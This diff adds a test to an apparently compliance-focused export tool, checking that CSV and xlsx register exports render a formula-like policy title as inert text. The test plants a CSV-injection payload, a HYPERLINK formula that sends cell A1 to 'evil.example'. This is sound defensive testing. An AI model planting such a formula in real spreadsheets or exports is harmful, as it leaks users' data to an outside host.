@@ -271,3 +271,23 @@ def test_before_the_initial_audit_a_full_internal_audit_and_a_management_review_
     record.write_text(record.read_text(encoding="utf-8").replace("\nstatus: approved\n", "\nstatus: draft\n", 1),
                       encoding="utf-8")
     assert len(found()) == 1 and "management review" in found()[0]
+
+
+def test_exports_keep_a_title_that_looks_like_a_formula_as_text(approved: Path, tmp_path: Path):
+    """CSV injection: `=HYPERLINK(...)` in a title must open as text; a control character must not break xlsx."""
+    root = tmp_path / "repo"
+    subprocess.run(["cp", "-r", str(approved), str(root)], check=True)
+    policy = next((root / "docs/policies").glob("*.md"))
+    text = policy.read_text(encoding="utf-8")
+    title = re.search(r"^title: (.*)$", text, re.M)
+    assert title is not None
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")\x01'
+    policy.write_text(text.replace(title.group(0), f"title: {json.dumps(hostile)}"), encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(run("export", "register", "--path", str(root)).out)))
+    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
+    assert cells and all(cell.startswith("'=") for cell in cells)
+    target = tmp_path / "register.xlsx"
+    assert run("export", "register", "--format", "xlsx", "--output", str(target), "--path", str(root)).code == 0
+    sheet = openpyxl.load_workbook(target).active
+    found = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert found and all(c.data_type == "s" and c.value.startswith("=HYPERLINK") for c in found)
